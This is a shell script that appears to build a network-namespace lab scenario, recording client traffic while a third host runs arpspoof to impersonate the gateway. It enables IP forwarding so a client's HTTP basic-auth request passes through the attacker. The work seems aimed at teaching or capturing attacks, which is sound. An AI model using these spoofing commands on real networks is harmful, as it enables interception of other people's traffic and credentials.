# about: ARP spoofing: a third host on the switch claims the server's address while the client browses
# tools: dnsmasq nginx curl openssl arpspoof ping
scenario_lab() { lab_up_switch; }
scenario() {
  ip -n server addr add 192.0.2.2/24 dev s0
  start_dns; start_nginx
  attacker sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.a0.send_redirects=0
  start_recording arp-spoof c0
  client curl -s -4 http://www.example.com/ > /dev/null
  ip netns exec attacker arpspoof -i a0 -t 192.0.2.10 192.0.2.1 > /dev/null 2>&1 &
  spoof=$!
  sleep 3
  client curl -s -4 -u user:example http://www.example.com/items.json > /dev/null
  client ping -c 3 -i 0.3 192.0.2.1 > /dev/null || true
  sleep 3
  kill -INT $spoof; sleep 5; kill $spoof 2> /dev/null || true
  client curl -s -4 http://www.example.com/ > /dev/null
  stop_recording
}
